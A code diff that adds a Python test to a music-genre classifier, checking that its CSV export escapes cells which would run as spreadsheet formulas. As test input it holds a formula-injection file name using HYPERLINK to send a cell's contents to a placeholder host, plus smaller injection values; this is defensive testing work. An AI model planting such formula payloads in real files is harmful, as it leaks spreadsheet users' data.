@@ -647,6 +647,28 @@ def test_a_rows_warnings_share_one_csv_cell_and_the_table_leaves_them_to_stderr(
     assert render([row], output="table", timeline=False) == "a.ogg  Rock         90%  (Rock 90%)\n"
 
 
+def test_no_csv_cell_starts_as_a_spreadsheet_formula():
+    from spectrogenre.prediction import render
+
+    # a hostile file's name given as it is in the folder predict runs in, a genre named by a library's folder, an
+    # error quoting a name: each opened in a spreadsheet would run as a formula
+    rows = [{"path": '=HYPERLINK("http://x.example/?"&A1,"open").mp3', "genre": "@Rock", "confidence": 0.9,
+             "top": [{"genre": "@Rock", "probability": 0.9}], "windows": [], "error": None, "warnings": []},
+            {"path": "-1+2.mp3", "genre": None, "confidence": None, "top": [], "windows": [],
+             "error": "+cmd quoted by a decoder", "warnings": ["=warned"]},
+            {"path": "/music/=x.mp3", "genre": "Rock", "confidence": 0.9, "top": [], "windows": [], "error": None,
+             "warnings": []}]
+    cells = list(csv.DictReader(io.StringIO(render(rows, output="csv", timeline=False))))
+    # a path gets "./" (the same file), other text an apostrophe (a spreadsheet's mark for text); others as they are
+    assert [(c["path"], c["genre"], c["top"], c["error"], c["warnings"]) for c in cells] == [
+        ('./=HYPERLINK("http://x.example/?"&A1,"open").mp3', "'@Rock", "'@Rock:0.9", "", ""),
+        ("./-1+2.mp3", "", "", "'+cmd quoted by a decoder", "'=warned"),
+        ("/music/=x.mp3", "Rock", "", "", "")]
+    windows = [{"start_s": 0.0, "end_s": 15.0, "genre": "-core", "confidence": 0.9, "best_guess": "-core"}]
+    [cells] = list(csv.DictReader(io.StringIO(render([rows[2] | {"windows": windows}], output="csv", timeline=True))))
+    assert (cells["window_start_s"], cells["window_genre"], cells["window_confidence"]) == ("0.0", "'-core", "0.9")
+
+
 def test_a_folder_given_beside_others_that_holds_no_audio_is_named(tmp_path):
     # `predict song.mp3 ~/Musci/` classified the song and said nothing of the mistyped or empty folder
     from spectrogenre.prediction import survey
